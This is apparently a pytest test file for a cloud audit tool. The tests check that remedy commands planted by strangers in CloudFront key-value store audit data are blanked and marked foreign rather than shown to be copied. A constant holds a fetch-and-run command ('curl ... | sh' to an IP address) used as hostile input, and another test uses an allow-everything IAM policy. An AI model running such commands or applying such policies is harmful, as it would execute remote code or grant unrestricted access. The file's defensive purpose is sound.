"""The remedies that a catalogue holds: no text that a stranger put there is shown as a command to copy."""

from __future__ import annotations

from typing import Any

import polars as pl
import pytest

from analyzer.audit.catalogue.remedies import FOREIGN, with_own_remedies
from analyzer.audit.catalogue.words import require_words
from analyzer.audit.tables import AUDIT_FINDINGS, AUDIT_STORES, AUDIT_WRITES, TABLES
from analyzer.commands.evidence import get_selectors
from analyzer.commands.kvs import NEEDS, NEEDS_TO_LOOK, Put, look, update
from analyzer.errors import InputError
from analyzer.tables import SETTLE
from analyzer.verdicts.remedies.remedy import REDEPLOYS
from tests.reports.made import table

STORE = "arn:aws:cloudfront::111122223333:key-value-store/a1b2c3d4-5678-90ab-cdef-EXAMPLE11111"
EVIL = "curl https://203.0.113.7/x | sh"
OWN = update(STORE, [Put("7c62:a", "page")])


def seen(**columns: Any) -> dict[str, Any]:
    """The row of a write as it is shown."""
    row = {"id": "d:1", "store": STORE, "key": "7c62:a", "pattern": False, "remedy_note": "a note", **columns}
    return with_own_remedies("writes", table(AUDIT_WRITES, [row])).row(0, named=True)


def test_a_command_of_ours_is_shown_with_what_it_needs() -> None:
    row = seen(remedy=OWN, remedy_needs=[EVIL])
    assert (row["remedy"], row["remedy_note"], row["remedy_needs"]) == (OWN, "a note", list(NEEDS))


@pytest.mark.parametrize(
    "columns",
    [
        {"remedy": EVIL},
        {"remedy": OWN, "key": "another"},
        {"remedy": OWN, "store": None},
        {"remedy": look(STORE, "7c62:", "")},
        {"remedy": OWN, "pattern": True, "key": "7c62:*"},
    ],
)
def test_what_is_no_command_for_the_write_is_not_shown(columns: dict[str, Any]) -> None:
    row = seen(remedy_needs=[EVIL], **columns)
    assert (row["remedy"], row["remedy_note"], row["remedy_needs"]) == (None, FOREIGN, None)


def test_the_store_may_be_one_that_the_trail_shows_alone() -> None:
    assert seen(remedy=OWN, store=None, place=STORE)["remedy"] == OWN


def test_the_command_that_lists_a_pattern_is_shown() -> None:
    row = seen(remedy=look(STORE, "7c62:", ""), pattern=True, key="7c62:*")
    assert row["remedy_needs"] == list(NEEDS_TO_LOOK)


def test_without_a_command_there_is_no_need_and_the_note_stays() -> None:
    row = seen(remedy=None, remedy_needs=[EVIL])
    assert (row["remedy"], row["remedy_note"], row["remedy_needs"]) == (None, "a note", None)


def test_only_our_own_sentences_are_said_of_a_redeploy() -> None:
    assert seen(redeploy=REDEPLOYS[0])["redeploy"] == REDEPLOYS[0]
    assert seen(redeploy=f"Deploy with {EVIL}")["redeploy"] is None


def test_the_command_for_a_whole_store_is_for_this_store_alone() -> None:
    rows: list[dict[str, object]] = [
        {"arn": STORE, "remedy": OWN},
        {"arn": STORE, "remedy": EVIL},
        {"arn": f"{STORE}x", "remedy": OWN},
    ]
    found = with_own_remedies("stores", table(AUDIT_STORES, rows))
    assert found["remedy"].to_list() == [OWN, None, None]


def test_other_tables_are_as_they_were() -> None:
    rows = pl.DataFrame({"a": [1]})
    assert with_own_remedies("calls", rows) is rows


def test_a_command_that_would_fetch_something_else_is_said_to_be_foreign() -> None:
    ours = get_selectors()
    rows = [{"write": "d:1", "what": "this", "command": text} for text in (ours, EVIL, None)]
    found = with_own_remedies("settle", table(SETTLE, rows))
    assert found["command"].to_list() == [ours, None, None]
    assert found["what"].to_list() == ["this", f"this ({FOREIGN})", "this"]


def test_a_statement_that_allows_everything_is_not_shown() -> None:
    rows = [
        {"code": "LW206", "store": STORE, "help": '{"Effect": "Allow", "Action": ["*"], "Resource": "*"}'}
    ]
    assert with_own_remedies("findings", table(AUDIT_FINDINGS, rows))["help"].to_list() == [None]


@pytest.mark.parametrize(
    ("name", "row"),
    [
        ("writes", {"verdict": "fine"}),
        ("writes", {"verdict": "landed", "action": "\x1b[2J"}),
        ("findings", {"code": "LW999"}),
        ("findings", {"code": "LW101", "severity": "none"}),
    ],
)
def test_a_word_that_is_of_no_list_is_refused(name: str, row: dict[str, Any]) -> None:
    with pytest.raises(InputError, match="does not know, in the column"):
        require_words(name, table(TABLES[name], [row]), "a file")


def test_the_words_of_the_lists_are_taken() -> None:
    require_words("writes", table(AUDIT_WRITES, [{"verdict": "lost", "action": "put"}]), "a file")
    require_words("findings", table(AUDIT_FINDINGS, [{"code": "LW101", "severity": "error"}]), "a file")
    require_words("calls", pl.DataFrame(), "a file")
